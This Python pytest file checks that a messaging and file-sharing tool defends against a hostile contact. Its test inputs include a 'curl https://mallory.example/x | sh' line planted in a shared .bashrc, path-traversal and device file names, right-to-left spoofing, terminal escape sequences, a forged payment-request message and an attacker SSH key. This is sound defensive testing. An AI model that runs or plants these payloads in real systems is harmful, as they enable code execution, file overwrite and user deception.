"""What a hostile connection can put in a name or a message, and what Bob's terminal and disk make of it.

Mallory is one of Bob's connections with a cloud of her own, so she seals whatever
names she likes (a modified client skips the checks ``files put`` makes) and her
cloud answers what she likes. Bob only types ``imegha`` commands. A download lands
under a plain name inside the directory Bob chose, under the name he picked from the
listing, and never replaces a file of his without ``--force``; a message or a name
never draws a line of its own on his terminal nor sends it an escape sequence,
while ``--json`` carries every character as it was sealed.
"""

from __future__ import annotations

import re
import uuid
from pathlib import Path

import pytest

from imegha import library as library_module
from imegha.files_api import FilesApi
from imegha.library import Library, sealed_metadata

FORGED_LINE = "ok\n10:02:11  Alice: wire the 4,800 EUR to DE89 3704 0044 0532 0130 00 today"
ESCAPES = "\x1b]0;imegha: all verified\x07\x1b[31mURGENT\x1b[0m pay \u202egnp.exe\u2066"
RAW = {"\x1b", "\x07", "\u202e", "\u2066"}


@pytest.fixture(scope="module")
def mallory(person):
    return person("Mallory").with_cloud()


@pytest.fixture(scope="module")
def bob(person, mallory):
    return mallory.connected_with(person("Bob"))


@pytest.fixture
def unchecked_names(monkeypatch):
    """Mallory's client seals any name: what a modified client does."""
    monkeypatch.setattr(library_module, "check_name", lambda name: name)


def stored(mallory, tmp_path, name: str, content: bytes, *options: str) -> dict:
    source = tmp_path / f"source-{uuid.uuid4().hex}"
    source.write_bytes(content)
    return mallory.device.imegha("files", "put", str(source), "--name", name, *options).json


def shared_with_bob(mallory, tmp_path, name: str, content: bytes) -> str:
    """The share's id; ids are passed after '--', as one may begin with '-'."""
    file_id = stored(mallory, tmp_path, name, content)["fileId"]
    return mallory.device.imegha("share", "add", "--with", "Bob", "--", file_id).json["shareId"]


def a_directory(parent: Path, name: str = "home") -> Path:
    directory = parent / name
    directory.mkdir()
    return directory


def everything_in(directory: Path) -> dict[str, bytes | str | None]:
    """Each path under ``directory``: a file's bytes, where a link points, None for a directory."""
    return {str(path.relative_to(directory)): _held(path) for path in directory.rglob("*")}


def _held(path: Path) -> bytes | str | None:
    if path.is_symlink():
        return f"-> {path.readlink()}"
    return None if path.is_dir() else path.read_bytes()


# --- where a download lands ---------------------------------------------------------------------------------


def test_a_shared_dotfile_lands_under_a_plain_name_beside_bobs_own(mallory, bob, tmp_path):
    home = a_directory(tmp_path)
    (home / ".bashrc").write_text("Bob's own shell settings")
    share_id = shared_with_bob(mallory, tmp_path, ".bashrc", b"curl https://mallory.example/x | sh\n")

    got = bob.device.imegha("shared", "get", "-o", str(home), "--", share_id).json

    assert got["written"] == [str(home / "bashrc")]
    assert everything_in(home) == {
        ".bashrc": b"Bob's own shell settings",
        "bashrc": b"curl https://mallory.example/x | sh\n",
    }


def test_a_sealed_name_with_a_path_or_controls_stays_one_plain_file_in_the_directory_bob_chose(
    mallory, bob, tmp_path, unchecked_names
):
    names = {
        "../x": "_x",
        "..\\..\\autorun.bat": "_.._autorun.bat",
        "CON": "_CON",
        "invoice\u202efdp.exe": "invoice_fdp.exe",
        "\x1b[31mred\nline": "_[31mred_line",
    }
    outer = a_directory(tmp_path, "outer")
    downloads = a_directory(outer, "downloads")

    for sealed, written in names.items():
        share_id = shared_with_bob(mallory, tmp_path, sealed, sealed.encode())
        got = bob.device.imegha("shared", "get", "-o", str(downloads), "--", share_id).json
        assert got["written"] == [str(downloads / written)], sealed

    assert everything_in(outer) == {
        "downloads": None,
        **{f"downloads/{written}": sealed.encode() for sealed, written in names.items()},
    }


def test_the_name_written_is_the_one_bob_picked_from_the_listing_not_one_the_download_answer_carries(
    mallory, bob, tmp_path, monkeypatch
):
    downloads = a_directory(tmp_path)
    (downloads / ".bashrc").write_text("Bob's own shell settings")
    share_id = shared_with_bob(mallory, tmp_path, "Invoice.pdf", b"%PDF-1.7 invoice")
    invoice = Library(mallory.device.account()).find("Invoice.pdf")
    answered = FilesApi.download_received

    def answer_naming_a_dotfile(api, share, file_id):
        """Mallory's cloud answers the download with the same key and version, and metadata naming .bashrc."""
        answer = answered(api, share, file_id)
        return answer | {
            "metadata": sealed_metadata(
                invoice.key, invoice.context, ".bashrc", invoice.size, invoice.media_type, invoice.modified
            )
        }

    monkeypatch.setattr(FilesApi, "download_received", answer_naming_a_dotfile)
    got = bob.device.imegha("shared", "get", "-o", str(downloads), "--", share_id).json

    assert got["written"] == [str(downloads / "Invoice.pdf")]
    assert everything_in(downloads) == {".bashrc": b"Bob's own shell settings", "Invoice.pdf": b"%PDF-1.7 invoice"}


def test_a_shared_folder_named_ssh_is_no_ssh_directory_and_its_files_stay_inside_it(
    mallory, bob, tmp_path, unchecked_names
):
    home = a_directory(tmp_path)
    assert mallory.device.imegha("folders", "create", ".ssh").status == 0
    stored(mallory, tmp_path, "authorized_keys", b"ssh-ed25519 AAAA mallory", "--folder", ".ssh")
    stored(mallory, tmp_path, "../../escape", b"out", "--folder", ".ssh")
    share_id = mallory.device.imegha("share", "add", ".ssh", "--with", "Bob", "--kind", "folder").json["shareId"]

    got = bob.device.imegha("shared", "get", "-o", str(home), "--", share_id).json

    assert sorted(got["written"]) == [str(home / "ssh" / "_.._escape"), str(home / "ssh" / "authorized_keys")]
    assert everything_in(home) == {
        "ssh": None,
        "ssh/authorized_keys": b"ssh-ed25519 AAAA mallory",
        "ssh/_.._escape": b"out",
    }

    (home / "ssh" / "authorized_keys").write_bytes(b"Bob's own key")
    again = bob.device.imegha("shared", "get", "-o", str(home), "--", share_id)
    assert again.status == 1 and "--force" in again.error["message"]
    assert all(f"{home / 'ssh' / name}" in again.error["message"] for name in ("_.._escape", "authorized_keys"))
    assert (home / "ssh" / "authorized_keys").read_bytes() == b"Bob's own key"
    assert (home / "ssh" / "_.._escape").read_bytes() == b"out"


def test_an_existing_file_is_replaced_only_with_force(mallory, bob, tmp_path):
    downloads = a_directory(tmp_path)
    (downloads / "Minutes.txt").write_text("Bob's own minutes")
    (downloads / "Notes.txt").symlink_to(tmp_path / "somewhere-else.txt")
    minutes = shared_with_bob(mallory, tmp_path, "Minutes.txt", b"Mallory's minutes")
    notes = shared_with_bob(mallory, tmp_path, "Notes.txt", b"Mallory's notes")
    before = everything_in(downloads)

    for share_id, target, output in (
        (minutes, downloads / "Minutes.txt", downloads),
        (minutes, downloads / "Minutes.txt", downloads / "Minutes.txt"),
        (notes, downloads / "Notes.txt", downloads),
    ):
        refused = bob.device.imegha("shared", "get", "-o", str(output), "--", share_id)
        assert refused.status == 1, refused.stdout
        assert str(target) in refused.error["message"] and "--force" in refused.error["message"]
        shown = bob.device.imegha("shared", "get", "-o", str(output), "--", share_id, human=True)
        assert shown.status == 1 and shown.stderr.startswith(f"imegha: {target} ")
    assert everything_in(downloads) == before and not (tmp_path / "somewhere-else.txt").exists()

    forced = bob.device.imegha("shared", "get", "-o", str(downloads), "--force", "--", minutes).json
    assert forced["written"] == [str(downloads / "Minutes.txt")]
    assert (downloads / "Minutes.txt").read_bytes() == b"Mallory's minutes"

    own = stored(mallory, tmp_path, "Agenda.txt", b"the agenda")["fileId"]
    (downloads / "Agenda.txt").write_text("Mallory's older agenda")
    kept = mallory.device.imegha("files", "get", "-o", str(downloads), "--", own)
    assert kept.status == 1 and "--force" in kept.error["message"]
    assert (downloads / "Agenda.txt").read_text() == "Mallory's older agenda"
    assert mallory.device.imegha("files", "get", "-o", str(downloads), "--force", "--", own).json["path"] == str(
        downloads / "Agenda.txt"
    )
    assert (downloads / "Agenda.txt").read_bytes() == b"the agenda"
    assert not [path for path in downloads.iterdir() if path.name.endswith(".part")]


# --- what reaches the terminal ------------------------------------------------------------------------------


def assert_shown_escaped(typed) -> None:
    assert typed.status == 0, typed.stderr
    assert not RAW & set(typed.stdout + typed.stderr), typed.stdout + typed.stderr


def sender_lines(stdout: str) -> list[str]:
    """The lines a person reads as 'someone said': those not indented under one."""
    return [line for line in stdout.splitlines() if not line.startswith(" ")]


def test_a_message_draws_no_line_of_someone_else_and_sends_no_escape_to_the_terminal(mallory, bob):
    for text in (FORGED_LINE, ESCAPES):
        assert mallory.device.imegha("chat", "send", "Bob", text).status == 0

    shown = bob.device.imegha("chat", "read", "Mallory", human=True)

    assert_shown_escaped(shown)
    assert [re.sub(r"^\d\d:\d\d:\d\d  ", "HH:MM:SS  ", line) for line in sender_lines(shown.stdout)] == [
        "HH:MM:SS  Mallory: ok",
        "HH:MM:SS  Mallory: \\x1b]0;imegha: all verified\\x07\\x1b[31mURGENT\\x1b[0m pay \\u202egnp.exe\\u2066",
    ]
    assert "                   10:02:11  Alice: wire the 4,800 EUR" in shown.stdout
    exact = bob.device.imegha("chat", "read", "Mallory")
    assert [message["text"] for message in exact.json["messages"]] == [FORGED_LINE, ESCAPES]
    assert not RAW & set(exact.stdout), "--json carries each character as a JSON escape"


def test_a_group_name_and_its_messages_are_shown_escaped_and_exact_in_json(mallory, bob):
    name = "Team\x1b[2J\u202e"
    group = mallory.device.imegha("group", "create", name, "--members", "Bob").json["groupId"]
    assert mallory.device.imegha("group", "send", group, FORGED_LINE).status == 0

    read = bob.device.imegha("group", "read", group, human=True)
    assert_shown_escaped(read)
    assert [line[8:] for line in sender_lines(read.stdout)] == ["  Mallory: ok"]
    listed = bob.device.imegha("group", "ls", human=True)
    assert_shown_escaped(listed)
    assert "Team\\x1b[2J\\u202e  [" in listed.stdout
    assert [g["name"] for g in bob.device.imegha("group", "ls").json["groups"] if g["groupId"] == group] == [name]
    assert [m["text"] for m in bob.device.imegha("group", "read", group).json["messages"]] == [FORGED_LINE]


def test_a_sealed_file_name_is_shown_escaped_in_every_listing_and_refusal(mallory, bob, tmp_path):
    name = f"{uuid.uuid4().hex[:6]} \x1b[31mred\u202etxt.exe"
    share_id = shared_with_bob(mallory, tmp_path, name, b"payload")
    escaped = name.replace("\x1b", "\\x1b").replace("\u202e", "\\u202e")

    for typed in (
        bob.device.imegha("shared", human=True),
        bob.device.imegha("shared", "ls", "--", share_id, human=True),
        mallory.device.imegha("files", "ls", human=True),
    ):
        assert_shown_escaped(typed)
        assert escaped in typed.stdout
    refused = bob.device.imegha("shared", "get", "--file", "nothing-such", "--", share_id, human=True)
    assert refused.status == 1 and escaped in refused.stderr and not RAW & set(refused.stderr)
    assert name in [share["name"] for share in bob.device.imegha("shared").json["shares"]]
